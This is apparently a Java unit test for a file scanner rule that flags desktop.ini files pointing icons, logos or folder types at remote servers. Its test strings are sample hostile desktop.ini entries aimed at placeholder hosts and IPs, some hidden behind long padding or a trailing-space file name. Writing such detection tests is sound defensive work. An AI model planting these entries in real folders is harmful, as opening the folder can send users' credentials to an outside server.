package dev.dropgate.inspect.rules.documents;

import static org.assertj.core.api.Assertions.assertThat;

import dev.dropgate.inspect.Inspector;
import dev.dropgate.inspect.RuleSet;
import dev.dropgate.inspect.ScanTarget;
import dev.dropgate.inspect.content.MemoryContent;
import dev.dropgate.model.EntryKind;
import dev.dropgate.model.ScanResult;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A look at a folder must not send the user's credentials to a server. */
class RemoteIconRuleTest {
  private final RuleSet rules = new Inspector().ruleSet(null, null);

  @ParameterizedTest
  @ValueSource(
      strings = {
        "[.ShellClassInfo]\r\nIconResource=\\\\203.0.113.9\\s\\i.ico,0\r\n",
        "[.ShellClassInfo]\r\nIconFile = \"\\\\host.example\\s\\i.ico\"\r\n",
        "[.ShellClassInfo]\nLogo=//host.example/s/logo.png\n",
        "[ViewState]\r\nFolderType=@\\\\10.0.0.1\\x.dll,-1\r\n"
      })
  void findsServerName(String text) {
    for (Charset charset : new Charset[] {StandardCharsets.US_ASCII, StandardCharsets.UTF_16LE}) {
      assertThat(judge("Desktop.ini", text, charset).rules()).isEqualTo("remote-icon");
      assertThat(judge("desktop.ini ", "; padded\r\n".repeat(20_000) + text, charset).rules())
          .isEqualTo("remote-icon");
      assertThat(judge("notes.ini", text, charset)).matches(j -> j.findings().isEmpty());
    }
  }

  private ScanResult judge(String name, String text, Charset charset) {
    return rules.judge(
        new ScanTarget(Path.of(name), EntryKind.FILE, new MemoryContent(text.getBytes(charset))));
  }
}
